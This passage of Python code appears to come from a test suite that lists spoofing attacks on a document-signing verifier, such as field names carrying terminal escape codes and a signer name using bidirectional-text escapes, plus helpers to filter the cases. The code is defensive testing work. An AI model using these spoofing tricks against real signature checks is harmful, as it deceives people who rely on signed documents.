           lambda m: certify_as(embedded_file(m.unsigned), m.aisha), sendable=True),
    # Names that would rewrite a terminal's output.
    Attack("field_name_escape_codes@single", "spoofing", "single", SPOOF,
           lambda m: sign_field(m.single, m.aisha, EVIL_FIELD_NAME, new_box=SECOND_BOX), sendable=True),
    Attack("field_name_escape_codes@double", "spoofing", "double", SPOOF,
           lambda m: sign_field(m.double, m.aisha, EVIL_FIELD_NAME, new_box=SECOND_BOX), sendable=True),
    Attack("common_name_bidi_escape@double", "spoofing", "double", SPOOF,
           lambda m: countersign_as(m.single, new_signing_identity(EVIL_COMMON_NAME, "Social Worker")),
           sendable=True, zoe_signed=False),
)



def attacks(*, base: str | None = None, sendable: bool | None = None,
            countersigned_by_zoe: bool | None = None) -> list[Attack]:
    return [a for a in ATTACKS if (base is None or a.base == base) and (sendable is None or a.sendable == sendable)
            and (countersigned_by_zoe is None or a.countersigned_by_zoe == countersigned_by_zoe)]


def by_id(*ids: str) -> list[Attack]:
    chosen = {attack.id: attack for attack in ATTACKS}
    return [chosen[i] for i in ids]
